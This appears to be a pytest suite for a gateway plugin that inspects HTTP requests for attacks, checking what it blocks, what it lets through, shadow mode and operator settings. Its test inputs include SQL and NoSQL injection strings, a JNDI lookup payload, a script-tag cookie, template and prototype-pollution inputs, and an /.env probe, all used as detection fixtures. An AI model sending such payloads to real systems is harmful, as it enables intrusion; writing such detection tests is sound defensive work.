"""request_inspection: where it looks, what it says, and that it only reports unless told otherwise."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from gateway.config.entry import PluginEntry
from gateway.testing import answering, exchange, opened, request, settings_of
from plugins.request_inspection import RequestInspection

EXAMPLE = {}
JSON = {"Content-Type": "application/json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
INJECTION = "' OR 1=1--"


def post(body, headers, **more):
    return request("POST", "/comments", headers=headers, body=body, **more)


@pytest.mark.parametrize(
    ("asked", "rules"),
    [
        pytest.param(request("GET", "/a?id=1%20or%201=1"), "sqli-tautology-number", id="a parameter"),
        pytest.param(request("GET", "/a?x[$ne]=1"), "nosql-operator", id="a parameter's name"),
        pytest.param(request("GET", "/.env"), "exposed-file", id="the path"),
        pytest.param(request("GET", "/a?b=%00"), "null-byte", id="a null byte"),
        pytest.param(request(headers={"User-Agent": "sqlmap/1.7"}), "scanner", id="the agent"),
        pytest.param(request(headers={"Referer": "${jndi:ldap://x.test}"}), "injection-lookup", id="a header field"),
        pytest.param(request(headers={"Cookie": "a=b; c=<script>x"}), "xss-script", id="a cookie"),
        pytest.param(post("name=x&comment=%27+OR+1%3D1--", FORM), "sqli-tautology", id="a form field"),
        pytest.param(post(json.dumps({"a": [{"b": INJECTION}]}), JSON), "sqli-tautology", id="deep in JSON"),
        pytest.param(post('{"\\u0061": "\\u0027 or 1=1"}', JSON), "sqli-tautology", id="escaped in JSON"),
        pytest.param(post('{"__proto__": {"x": 1}, "b": "{{x.__class__}}"}', JSON), "injection-", id="a JSON member"),
        pytest.param(post("{" + INJECTION, JSON), "sqli-tautology", id="JSON that is broken"),
        pytest.param(post(f"<a>{INJECTION}</a>", {"Content-Type": "text/xml"}), "sqli-tautology", id="XML"),
    ],
)
async def test_where_it_looks(asked, rules):
    target = answering(200)
    async with opened(RequestInspection, EXAMPLE) as live:
        response = await live(asked, target)
        assert (response.status, response.error.code, target.calls) == (403, "suspicious_request", 0)
        assert rules in response.error.reason
        assert "score" not in response.body.whole.decode()


@pytest.mark.parametrize(
    "asked",
    [
        pytest.param(request("GET", "/orders/17?page=2&sort=-name", headers={"Accept": "*/*; q=0.5"}), id="a list"),
        pytest.param(
            request("GET", "/", headers={"User-Agent": "Mozilla/5.0 (X11; Linux) (KHTML, like Gecko) Chrome/1"}),
            id="a browser",
        ),
        pytest.param(request(headers={"Cookie": "_ga=GA1.2.3; s=eyJ1IjoxfQ==.abc; theme='dark'"}), id="usual cookies"),
        pytest.param(request(headers={"Authorization": "Bearer ' or 1=1"}), id="credentials are not looked at"),
        pytest.param(post(json.dumps({"name": "O'Brien", "bio": "I like salt & pepper; or not"}), JSON), id="a person"),
        pytest.param(post(b"\xff' or 1=1", {"Content-Type": "image/png"}), id="an image"),
        pytest.param(post(INJECTION, {}), id="a body of no known kind"),
    ],
)
async def test_what_passes(asked):
    assert (await exchange(RequestInspection, EXAMPLE, asked)).status == 200


async def test_the_log_says_which_rules_and_never_what_was_found():
    async with opened(RequestInspection, EXAMPLE, mode="shadow") as live:
        await live(request("GET", "/?q=%27%20or%20%27s3cret%27=%27s3cret"))
        (refusal,) = live.ports.refusals
        assert refusal.error.reason == "score 5: sqli-tautology"


async def test_shadow_reports_counts_and_lets_pass():
    target = answering(200)
    async with opened(RequestInspection, EXAMPLE, mode="shadow") as live:
        assert (await live(request("GET", "/.env"), target)).status == 200
        assert live.ports.would_refuse == ["suspicious_request"]
        (family,) = [f for f in live.ports.metrics.snapshot() if f["name"].endswith("inspection_hits_total")]
        assert {labels[2]: count for labels, count in family["samples"] if count} == {"exposed-file": 1}


def test_shadow_is_what_holds_unless_told_otherwise():
    assert PluginEntry.model_validate({"plugin": "request_inspection"}).mode == "shadow"
    assert PluginEntry.model_validate({"plugin": "request_inspection", "mode": "enforce"}).mode == "enforce"
    assert PluginEntry.model_validate({"plugin": "size_limit"}).mode == "enforce"


@pytest.mark.parametrize(
    ("settings", "status"),
    [
        pytest.param({}, 403, id="as it comes"),
        pytest.param({"disable": ["sqli-tautology", "sqli-comment-end"]}, 200, id="without the rules"),
        pytest.param({"threshold": 6}, 200, id="with a higher threshold"),
        pytest.param({"ignore": ["Q"]}, 200, id="without the parameter"),
    ],
)
async def test_what_an_operator_may_change(settings, status):
    assert (await exchange(RequestInspection, settings, request("GET", f"/?q={INJECTION}"))).status == status


async def test_members_that_are_not_looked_at():
    asked = post(json.dumps({"text": INJECTION, "a": 1}), JSON)
    assert (await exchange(RequestInspection, {"ignore": ["text"]}, asked)).status == 200


async def test_rules_of_ones_own():
    rule = {"id": "mine", "category": "mine", "pattern": "forbidden;", "score": 5}
    async with opened(RequestInspection, {"rules": [rule]}) as live:
        assert (await live(request("GET", "/?q=Forbidden;"))).error.reason == "score 5: mine"


@pytest.mark.parametrize(
    ("settings", "status"),
    [
        pytest.param({"body": "10B"}, 200, id="too large to look into"),
        pytest.param({"body": "10B", "oversize": "refuse"}, 413, id="and refused for it"),
        pytest.param({"body": 0}, 200, id="bodies are not looked into"),
    ],
)
async def test_large_bodies(settings, status):
    target = answering(200)
    body = json.dumps({"a": INJECTION}).encode()
    asked = request("POST", "/", headers=JSON, chunks=[body[:5], body[5:]])
    response = await exchange(RequestInspection, settings, asked, target)
    assert response.status == status
    if status == 200:
        assert target.bodies == [body]


@pytest.mark.parametrize(
    "settings",
    [
        pytest.param({"disable": ["no-such-rule"]}, id="a rule that there is not"),
        pytest.param({"rules": [{"id": "a", "category": "b", "pattern": "(", "score": 5}]}, id="a broken pattern"),
        pytest.param({"threshold": 0}, id="a threshold that refuses everybody"),
    ],
)
def test_settings_that_are_refused(settings):
    with pytest.raises(ValidationError):
        settings_of(RequestInspection, settings)


@given(st.binary(max_size=200), st.sampled_from([JSON, FORM, {"Content-Type": "text/plain"}]))
async def test_no_body_breaks_it(body, headers):
    target = answering(200)
    response = await exchange(RequestInspection, EXAMPLE, post(body, headers), target)
    assert response.status in (200, 403)
    assert response.status == 403 or target.bodies == [body]
